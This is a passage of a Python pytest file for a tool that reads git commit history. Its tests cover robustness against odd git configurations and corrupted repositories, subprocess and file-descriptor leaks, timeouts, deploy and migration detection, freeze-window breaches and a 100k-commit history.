    project: dict, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo: Path = project["repo"]  # type: ignore[assignment]
    expected = snapshot(repo)
    other = init_repo(tmp_path / "other")
    commit(other, "deploy elsewhere", NOW - timedelta(minutes=1), {"x": "1"})
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text(
        "[log]\n\tshowSignature = true\n\tshowRoot = false\n\tdecorate = full\n"
        "[i18n]\n\tlogOutputEncoding = ISO-8859-1\n"
        "[color]\n\tui = always\n[diff]\n\trelative = true\n\trenames = copies\n\texternal = /bin/false\n"
        "[format]\n\tpretty = oneline\n[gpg]\n\tprogram = /bin/false\n"
    )
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home))
    monkeypatch.setenv("GIT_DIR", str(other / ".git"))
    monkeypatch.setenv("GIT_WORK_TREE", str(other))
    monkeypatch.setenv("GIT_OBJECT_DIRECTORY", str(other / ".git" / "objects"))
    monkeypatch.setenv("GIT_CONFIG_PARAMETERS", "'log.showsignature'='true'")
    got = snapshot(repo)
    assert got == expected


def test_broken_repository_is_a_one_line_problem(project: dict) -> None:
    repo: Path = project["repo"]  # type: ignore[assignment]
    git(repo, "gc", "-q")  # everything packed...
    for pack in (repo / ".git" / "objects" / "pack").glob("*.pack"):
        pack.write_bytes(b"garbage")  # ...and the pack destroyed
    p = problem(repo)
    assert p.kind == "failed" and p.is_error
    assert p.message.startswith(f"{repo}: git log failed: ")
    assert len(p.message) < 300 + len(str(repo))  # the path, then one bounded line


# -- resources ----------------------------------------------------------------------------------------


def test_no_git_process_is_left_behind(project: dict) -> None:
    import git as gitpython

    repo: Path = project["repo"]  # type: ignore[assignment]
    # The hazard is real: a GitPython Repo that reads an object keeps `git cat-file` running...
    leaky = gitpython.Repo(repo)
    assert leaky.head.commit.message
    assert any("cat-file" in c for c in git_children())
    leaky.close()
    assert not git_children()
    # ...and read_commits leaves nothing behind, call after call.
    for _ in range(5):
        snapshot(repo)
        assert commits_between(settings(repo), NOW - timedelta(hours=4), NOW)
    assert not git_children()


def test_git_that_does_not_answer_in_time_is_stopped(project: dict, monkeypatch: pytest.MonkeyPatch) -> None:
    from warroom.sources.git import run

    repo: Path = project["repo"]  # type: ignore[assignment]
    monkeypatch.setattr(run, "GIT_TIMEOUT", 0.0)
    p = problem(repo)
    assert p.kind == "failed" and p.message == f"{repo}: git log failed: no answer within 0 s"
    assert not git_children()


def test_git_complaining_at_length_is_still_read(project: dict) -> None:
    # 3,000 tags pointing at a corrupt object: git prints ~390 KB of errors while it decorates
    # (more than a pipe holds) and still succeeds; its output and errors are read together.
    repo: Path = project["repo"]  # type: ignore[assignment]
    sha = "0123456789abcdef0123456789abcdef01234567"
    (repo / ".git" / "objects" / sha[:2]).mkdir(exist_ok=True)
    (repo / ".git" / "objects" / sha[:2] / sha[2:]).write_bytes(b"garbage")
    refs = "".join(f"{sha} refs/tags/broken-{i:05d}\n" for i in range(3000))
    (repo / ".git" / "packed-refs").write_text("# pack-refs with: peeled fully-peeled sorted \n" + refs)
    snap = snapshot(repo)
    assert len(snap.commits) == 6 and snap.commits[2].tags == ("release-42",)
    assert not git_children()


def test_no_file_descriptor_leak(project: dict) -> None:
    repo: Path = project["repo"]  # type: ignore[assignment]
    snapshot(repo)
    before = len(list(Path("/proc/self/fd").iterdir()))
    for _ in range(30):
        snapshot(repo)
        problem(repo.parent / "nothing-here")
    assert len(list(Path("/proc/self/fd").iterdir())) <= before


# -- commits between two instants ------------------------------------------------------------------


def test_commits_between(project: dict) -> None:
    repo: Path = project["repo"]  # type: ignore[assignment]
    got = commits_between(settings(repo), NOW - timedelta(minutes=60), NOW - timedelta(minutes=10))
    assert isinstance(got, list)
    assert [c.subject for c in got] == [
        "hotfix during the incident",
        "Fix typo in docs",
        "DEPLOY send-sms v2",
    ]
    got = commits_between(
        settings(repo, count=1), NOW - timedelta(hours=5), NOW, freeze=[(NOW - timedelta(minutes=15), None)]
    )
    assert isinstance(got, list) and len(got) == 6  # not limited by settings.count
    assert [c.subject for c in got if c.freeze_breach] == ["Tidy logging", "hotfix during the incident"]
    assert commits_between(settings(repo), NOW, NOW - timedelta(hours=1)) == []
    got = commits_between(settings(repo), NOW - timedelta(hours=5), NOW, limit=2)
    assert isinstance(got, list) and len(got) == 2
    assert isinstance(commits_between(settings(None), NOW, NOW), GitProblem)


# -- a 100k-commit history ------------------------------------------------------------------------------

BIG = 100_000
BIG_START = datetime(2026, 9, 1, tzinfo=UTC)


@pytest.fixture(scope="session")
def big_repo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """100k commits (one a minute from BIG_START) by fast-import, then a migration and a deploy."""
    path = tmp_path_factory.mktemp("big") / "repo"
    build_history(path, BIG, start=BIG_START)
    last = BIG_START + (BIG - 1) * timedelta(minutes=1)
    commit(path, "Add index", last + timedelta(minutes=1), {"supabase/migrations/9_idx.sql": "--"})
    commit(path, "deploy api", last + timedelta(minutes=2), {"supabase/functions/api/index.ts": "x"})
    yield path
    shutil.rmtree(path, ignore_errors=True)


def test_large_history(big_repo: Path) -> None:
    last = BIG_START + (BIG - 1) * timedelta(minutes=1)
    now = last + timedelta(minutes=5)
    snap = snapshot(big_repo, now=now)
    assert [c.subject for c in snap.commits] == ["deploy api", "Add index"] + [
        f"change {i}" for i in range(BIG - 1, BIG - 9, -1)
    ]
    assert snap.commits[0].is_deploy and snap.commits[0].functions == ("api",)
    assert snap.commits[1].is_migration
    assert snap.commits[2].committed_at == last and snap.commits[2].paths == (f"src/f{(BIG - 1) % 4}.txt",)
    got = commits_between(settings(big_repo), last - timedelta(minutes=29), last)
    assert isinstance(got, list) and len(got) == 30
    assert got[0].subject == f"change {BIG - 1}" and got[-1].subject == f"change {BIG - 30}"
    assert not git_children()


def test_an_old_git_is_named_in_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from warroom.sources import git as git_source
    from warroom.sources.git import read

    monkeypatch.setattr(read, "git_version", lambda: (2, 25))
    (tmp_path / "repo").mkdir()
    result = git_source.read_commits(GitSettings(repo=tmp_path / "repo"), now=datetime.now(UTC))
    assert isinstance(result, git_source.GitProblem)
    assert result.message == "git 2.31 or newer is needed (this is git 2.25)"
